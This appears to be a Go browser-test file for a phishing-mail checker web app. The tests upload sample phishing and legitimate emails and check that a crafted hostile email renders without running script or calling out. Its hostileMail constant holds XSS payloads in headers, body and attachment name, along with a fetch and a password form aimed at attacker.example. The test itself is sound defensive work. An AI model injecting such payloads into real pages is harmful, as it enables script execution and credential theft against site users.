package web

import (
	"context"
	"encoding/json"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/mekiki/mekiki/internal/integration"
)

// browser starts Debian's Chromium headless for one test, recording every
// request and every JavaScript dialog.
type browser struct {
	ctx      context.Context
	mu       sync.Mutex
	requests []string
	dialogs  []string
}

func newBrowser(t *testing.T) *browser {
	t.Helper()
	return newBrowserSized(t, 1100, 1400)
}

// newBrowserSized starts the browser with a window of w×h pixels.
func newBrowserSized(t *testing.T, w, h int) *browser {
	t.Helper()
	exe := ""
	for _, c := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(c); err == nil {
			exe = p
			break
		}
	}
	if exe == "" {
		integration.RequireOrSkip(t, "chromium is not installed (apt-get install chromium)")
	}
	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(exe), chromedp.NoSandbox, chromedp.Headless,
		chromedp.Flag("disable-gpu", true), chromedp.WindowSize(w, h))
	actx, cancelA := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancelC := chromedp.NewContext(actx)
	ctx, cancelT := context.WithTimeout(ctx, 60*time.Second)
	t.Cleanup(func() { cancelT(); cancelC(); cancelA() })
	b := &browser{ctx: ctx}
	err := chromedp.Listen(ctx, func(ev any) {
		b.mu.Lock()
		defer b.mu.Unlock()
		switch e := ev.(type) {
		case *network.EventRequestWillBeSent:
			b.requests = append(b.requests, e.Request.URL)
		case *page.EventJavascriptDialogOpening:
			b.dialogs = append(b.dialogs, e.Message)
			go chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: false})
		}
	})
	if err == nil {
		_, err = chromedp.Call(ctx, network.Enable, network.EnableParams{})
	}
	if err != nil {
		t.Fatalf("chromium did not start: %v", err)
	}
	return b
}

// offHost lists requests that left the test server.
func (b *browser) offHost(host string) []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []string
	for _, r := range b.requests {
		u, err := url.Parse(r)
		if err != nil || (u.Scheme != "data" && u.Scheme != "about" && u.Host != host) {
			out = append(out, r)
		}
	}
	return out
}

func abs(t *testing.T, p string) string {
	a, err := filepath.Abs(p)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func TestBrowserUploadPhishing(t *testing.T) {
	b := newBrowser(t)
	srv := newServer(t, "", 0)
	err := chromedp.Do(b.ctx,
		chromedp.Navigate(srv.URL+"/"),
		chromedp.SetUploadFiles(chromedp.ID("mail"), []string{abs(t, "../testdata/phish-iso2022jp-amazon.eml")}),
		chromedp.Click(chromedp.ID("check")),
		chromedp.WaitVisible(chromedp.ID("verdict")),
	)
	if err != nil {
		t.Fatal(err)
	}
	verdict, err := chromedp.Run(b.ctx, chromedp.Text(chromedp.CSS("#verdict h1")))
	if err != nil {
		t.Fatal(err)
	}
	cards, err := chromedp.Run(b.ctx, chromedp.Evaluate[int](`document.querySelectorAll("#evidence .card").length`))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(verdict, "フィッシング") || cards < 5 {
		t.Errorf("verdict %q, %d evidence cards", verdict, cards)
	}
	shot(t, b, "report")
	if dir := os.Getenv("MEKIKI_SCREENSHOTS"); dir != "" {
		chromedp.Do(b.ctx, chromedp.ScrollIntoView(chromedp.ID("preview")), chromedp.Sleep(700*time.Millisecond))
		if png, err := chromedp.Run(b.ctx, chromedp.Screenshot(chromedp.ID("preview"))); err == nil {
			os.WriteFile(filepath.Join(dir, "preview.png"), png, 0o644)
		}
	}
}

func TestBrowserPasteLegitimate(t *testing.T) {
	b := newBrowser(t)
	srv := newServer(t, "", 0)
	src, _ := os.ReadFile("../testdata/legit-amazon-order.eml")
	if err := chromedp.Do(b.ctx, chromedp.Navigate(srv.URL+"/")); err != nil {
		t.Fatal(err)
	}
	shot(t, b, "index")
	err := chromedp.Do(b.ctx,
		chromedp.SetValue(chromedp.ID("source"), string(src)),
		chromedp.Click(chromedp.ID("check")),
		chromedp.WaitVisible(chromedp.ID("verdict")),
	)
	if err != nil {
		t.Fatal(err)
	}
	verdict, err := chromedp.Run(b.ctx, chromedp.Text(chromedp.CSS("#verdict h1")))
	// A clean verdict says nothing conclusive was found, never "safe".
	if err != nil || !strings.Contains(verdict, "決め手なし") || !strings.Contains(verdict, "安全の保証ではありません") {
		t.Errorf("verdict %q (%v)", verdict, err)
	}
}

// hostileMail carries XSS in every place a mail can: header fields, the
// HTML body (script, event handlers, javascript: links, CSS expressions
// and remote loads, SVG script, meta refresh, iframes) and an attachment
// name. Written by the team for this test.
const hostileMail = "From: \"<img src=x onerror=alert('from')>\" <a@attacker.example>\r\n" +
	"To: hanako@example-corp.co.jp\r\nSubject: <script>alert('subject')</script>\r\n" +
	"Message-ID: <x@attacker.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
	"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
	"<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/refresh\">" +
	"<style>body{background:url(https://attacker.example/css.png);width:expression(alert('css'))}</style>" +
	"<link rel=stylesheet href=https://attacker.example/x.css></head>" +
	"<body onload=\"alert('onload')\"><script>alert('script');fetch('https://attacker.example/fetch')</script>" +
	"<p onmouseover=\"alert('hover')\">Hello</p><a href=\"javascript:alert('js')\">click</a>" +
	"<img src=\"https://attacker.example/pixel.gif\" onerror=\"alert('img')\">" +
	"<svg><script>alert('svg')</script><image href=\"https://attacker.example/svg.png\"/></svg>" +
	"<iframe src=\"https://attacker.example/frame\"></iframe><object data=\"https://attacker.example/o\"></object>" +
	"<form action=\"https://attacker.example/post\"><input type=password name=p></form></body></html>\r\n" +
	"--b\r\nContent-Type: text/html; name=\"<svg onload=alert('att')>.html\"\r\nContent-Disposition: attachment; filename=\"<svg onload=alert('att')>.html\"\r\n\r\n" +
	"<script>alert('attachment')</script>\r\n--b--\r\n"

func TestBrowserHostileMailRunsNothing(t *testing.T) {
	b := newBrowser(t)
	srv := newServer(t, "", 0)
	js, _ := json.Marshal(hostileMail)
	err := chromedp.Do(b.ctx,
		chromedp.Navigate(srv.URL+"/"),
		chromedp.Evaluate[chromedp.Void](`document.getElementById("source").value = `+string(js)+`; undefined`),
		chromedp.Click(chromedp.ID("check")),
		chromedp.WaitVisible(chromedp.ID("verdict")),
		chromedp.Sleep(1500*time.Millisecond), // let anything that would run, run
	)
	if err != nil {
		t.Fatal(err)
	}
	if verdict, err := chromedp.Run(b.ctx, chromedp.Text(chromedp.CSS("#verdict h1"))); err != nil || verdict == "" {
		t.Errorf("no verdict shown (%v)", err)
	}
	// The report's button opens the decoded view of the same mail, which
	// shows the mail's HTML as text.
	err = chromedp.Do(b.ctx,
		chromedp.Click(chromedp.ID("show")),
		chromedp.WaitVisible(chromedp.ID("show-summary")),
		chromedp.Sleep(1500*time.Millisecond),
	)
	if err != nil {
		t.Fatal(err)
	}
	subject, err := chromedp.Run(b.ctx, chromedp.Text(chromedp.ID("show-subject")))
	if err != nil || !strings.Contains(subject, "<script>alert('subject')</script>") {
		t.Errorf("decoded view: subject %q (%v)", subject, err)
	}
	scripts, err := chromedp.Run(b.ctx, chromedp.Evaluate[int](`document.querySelectorAll("main script, main img, main iframe, main svg, main a[href^=http]").length`))
	if err != nil || scripts != 0 {
		t.Errorf("decoded view holds %d elements of the mail (%v)", scripts, err)
	}
	u, _ := url.Parse(srv.URL)
	b.mu.Lock()
	dialogs := append([]string(nil), b.dialogs...)
	b.mu.Unlock()
	if len(dialogs) > 0 {
		t.Errorf("JavaScript dialogs opened: %v", dialogs)
	}
	if off := b.offHost(u.Host); len(off) > 0 {
		t.Errorf("requests left the test server: %v", off)
	}
}

// shot saves a screenshot when MEKIKI_SCREENSHOTS names a directory (for
// the README).
func shot(t *testing.T, b *browser, name string) {
	dir := os.Getenv("MEKIKI_SCREENSHOTS")
	if dir == "" {
		return
	}
	chromedp.Do(b.ctx, chromedp.Sleep(700*time.Millisecond))
	// The viewport, not the full page: a full-page capture leaves the
	// sandboxed preview frame blank below the fold.
	png, err := chromedp.Run(b.ctx, chromedp.CaptureScreenshot())
	if err != nil {
		t.Logf("screenshot: %v", err)
		return
	}
	os.WriteFile(filepath.Join(dir, name+".png"), png, 0o644)
}
